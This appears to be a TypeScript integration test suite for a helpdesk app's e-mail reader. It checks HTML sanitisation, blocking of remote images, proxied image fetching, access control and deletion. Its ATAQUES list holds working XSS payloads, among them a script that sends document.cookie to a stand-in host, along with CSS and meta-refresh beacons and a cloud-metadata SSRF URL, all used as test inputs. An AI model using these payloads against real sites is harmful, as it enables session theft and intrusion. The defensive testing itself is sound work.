import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { sql } from 'kysely'
import { afterAll, describe, expect, it, vi } from 'vitest'
import { appDeTeste } from '#tests/suporte/app.ts'
import { PNG } from '#tests/suporte/chat.ts'
import { ate, carta, correioDeTeste } from '#tests/suporte/correio.ts'

// connections that open, break and come back: slow on a slow machine
vi.setConfig({ testTimeout: 120_000 })

const pedidos: string[] = []
const imagens = createServer((req, res) => {
  pedidos.push(req.url ?? '')
  res.setHeader('content-type', req.url?.endsWith('.svg') ? 'image/svg+xml' : 'image/png').end(PNG)
})
await new Promise<void>((r) => imagens.listen(0, '127.0.0.1', r))
afterAll(() => imagens.close())
const deFora = `http://127.0.0.1:${(imagens.address() as AddressInfo).port}`

const correio = await correioDeTeste('contraparte')
const casa = await appDeTeste({ permitirTambem: [...correio.hosts, new URL(deFora).host] })
const supervisora = await casa.como('supervisora@girassol.test')
const atendente = await casa.como('atendente@girassol.test')
const ninguem = await casa.como(null)
const {
  corpo: { data: caixa },
} = await supervisora('POST', '/api/chat/caixas-entrada', {
  nome: 'Leitura',
  tipo: 'email',
  configuracao: correio.configuracao,
})
await ate(
  async () => (await supervisora('GET', `/api/chat/caixas-entrada/${caixa.id}`)).corpo.data.conexao.estado === 'aberta',
)

async function receber(
  o: Parameters<typeof carta>[0],
): Promise<{ conversa: string; mensagem: string; dados: Record<string, unknown>; conteudo: string; caminho: string }> {
  const id = o?.id ?? `leitura-${Math.random()}@x.test`
  await correio.entregar(carta({ ...o, id }))
  const m = await ate(
    async () =>
      (
        await sql<{
          id: string
          conversa_id: string
          dados: Record<string, unknown>
          conteudo: string
        }>`
          select id, conversa_id, dados, conteudo
          from chat.mensagens
          where id_externo = ${id}
        `.execute(casa.app.s.banco.db)
      ).rows[0],
  )
  return {
    conversa: m.conversa_id,
    mensagem: m.id,
    dados: m.dados,
    conteudo: m.conteudo,
    caminho: `/api/chat/conversas/${m.conversa_id}/mensagens/${m.id}/email`,
  }
}

const ATAQUES = [
  '<script>fetch("//mal.test?"+document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">clique</a>',
  '<a href="java&#09;script:alert(1)">clique</a>',
  '<iframe src="https://mal.test"></iframe>',
  '<svg onload=alert(1)><script>alert(2)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<style>@import "https://mal.test/x.css"; body{background:url(https://mal.test/y)}</style>',
  '<div style="background-image:url(https://mal.test/z);position:fixed;top:0">x</div>',
  '<meta http-equiv="refresh" content="0;url=https://mal.test">',
  '<base href="https://mal.test/">',
  '<form action="https://mal.test"><input name=senha></form>',
  '<object data="https://mal.test"></object><embed src="https://mal.test">',
  '<link rel=stylesheet href="https://mal.test/a.css">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<p id="currentUser" name="cookie" class="g-caixa">clobber</p>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<details open ontoggle=alert(1)><summary>x</summary>segredo</details>',
  '</body></html><script>alert(1)</script>',
]

describe('a formatted e-mail', () => {
  it('loses everything active, and keeps its content', async () => {
    const { caminho, conteudo } = await receber({ html: `<p>Bom <b>dia</b></p>${ATAQUES.join('\n')}<p>Até logo</p>` })
    const {
      corpo: { data },
    } = await supervisora('GET', caminho)
    const corpo = data.html.slice(data.html.indexOf('<body>'))
    expect(corpo).toContain('<p>Bom <b>dia</b></p>')
    expect(corpo).toContain('<p>Até logo</p>')
    expect(corpo).not.toMatch(
      /<(?:script|iframe|svg|math|style|meta|base|form|input|object|embed|link|template|noscript|summary)\b/i,
    )
    expect(corpo).not.toMatch(
      /\son\w+\s*=|javascript:|url\(|mal\.test(?!")|position|\sid=|\sname=|\sclass=|image\/svg|text\/html/i,
    )
    expect(data.html).toContain("default-src 'none'; img-src data:; style-src 'unsafe-inline'")
    for (const [, destino] of corpo.matchAll(/href="([^"]*)"/g)) expect(destino).toMatch(/^(?:https?:|mailto:|tel:)/)
    expect(conteudo).toMatch(/^Bom dia/)
    expect(conteudo).not.toMatch(/alert|@import/)
  })

  it('loads no external images until the user asks; then the server fetches them, never the browser', async () => {
    const { caminho } = await receber({
      html: `<p>Oferta</p><img src="${deFora}/espia.png?quem=maria" alt="foto"><img src="${deFora}/desenho.svg" alt="desenho"><img src="http://169.254.169.254/latest/meta-data" alt="interno">`,
    })
    const fechado = (await supervisora('GET', caminho)).corpo.data
    expect([fechado.imagens_bloqueadas, pedidos, fechado.html.includes('espia')]).toEqual([3, [], false])
    const aberto = (await supervisora('GET', `${caminho}?imagens=true`)).corpo.data
    expect(aberto.imagens_bloqueadas).toBe(0)
    expect(pedidos.toSorted()).toEqual(['/desenho.svg', '/espia.png?quem=maria'])
    expect(aberto.html).toContain(`src="data:image/png;base64,${PNG.toString('base64')}"`)
    expect(aberto.html).not.toMatch(/127\.0\.0\.1|169\.254|svg\+xml/)
  })

  it('draws the attached images and folds quoted text', async () => {
    const { caminho, conteudo, dados } = await receber({
      html: '<p>Veja o telhado</p><img src="cid:foto1" alt="telhado"><div class="gmail_quote"><div>Em 1 de março, Suporte escreveu:</div><blockquote class="gmail_quote" type="cite">mande uma foto</blockquote></div>',
      texto:
        'Veja o telhado\n\nEm dom., 1 de mar. de 2026 às 10:00, Suporte <suporte@girassol.test>\nescreveu:\n\n> mande uma foto',
      anexos: [{ nome: 'telhado.png', mime: 'image/png', bytes: PNG, cid: 'foto1' }],
    })
    expect([conteudo, dados.formatado]).toEqual(['Veja o telhado', true])
    const {
      corpo: { data },
    } = await supervisora('GET', caminho)
    const endereco = /<img alt="telhado" src="([^"]+)" \/>/.exec(data.html)?.[1]?.replaceAll('&amp;', '&') ?? ''
    const imagem = await fetch(endereco)
    expect([
      imagem.status,
      imagem.headers.get('content-type'),
      Buffer.from(await imagem.arrayBuffer()).equals(PNG),
    ]).toEqual([200, 'image/png', true])
    expect(data.html).toContain(`img-src data: ${new URL(endereco).origin};`)
    expect(data.html).toMatch(/<details><summary>Mostrar texto citado<\/summary>.*mande uma foto/s)
    expect(data.html.match(/<details>/g)).toHaveLength(1)
    expect(data.texto).toContain('> mande uma foto')
  })

  it('opens only for users who see the conversation; the original is a file', async () => {
    const { caminho } = await receber({ texto: 'só para quem pode', id: 'so-para-quem@x.test' })
    expect((await ninguem('GET', caminho)).status).toBe(401)
    expect((await atendente('GET', caminho)).status).toBe(404)
    expect((await supervisora('GET', caminho.replace(/mensagens\/[^/]+/, 'mensagens/nada'))).status).toBe(400)
    const {
      corpo: { data },
    } = await supervisora('GET', caminho)
    expect(data).toMatchObject({
      html: null,
      texto: 'só para quem pode',
      de: { nome: 'Maria Souza', endereco: 'maria@cliente.test' },
      imagens_bloqueadas: 0,
    })
    const original = await fetch(data.original_url)
    expect(original.headers.get('content-disposition')).toMatch(/^attachment/)
    expect(await original.text()).toContain('Message-ID: <so-para-quem@x.test>')
  })

  it('shows the recipients of the next answer beforehand', async () => {
    const { conversa } = await receber({
      de: 'Rui <rui@obra.test>',
      assunto: 'Vistoria',
      texto: 'ok',
      cabecalhos: { Cc: 'lia@obra.test', 'Reply-To': 'obras@obra.test' },
    })
    const caminho = `/api/chat/conversas/${conversa}/email/resposta`
    expect((await supervisora('GET', caminho)).corpo.data).toEqual({
      assunto: 'Re: Vistoria',
      para: 'obras@obra.test',
      cc: ['lia@obra.test'],
      continua: true,
    })
    expect([(await ninguem('GET', caminho)).status, (await atendente('GET', caminho)).status]).toEqual([401, 404])
  })

  it('is deleted with its message', async () => {
    const { conversa } = await receber({ de: 'vai@embora.test', texto: 'apague tudo', id: 'vai-embora@x.test' })
    await sql`delete from chat.conversas where id = ${conversa}`.execute(casa.app.s.banco.db)
    expect(
      (await sql`select 1 from chat.emails where id_externo = 'vai-embora@x.test'`.execute(casa.app.s.banco.db)).rows,
    ).toEqual([])
  })
})
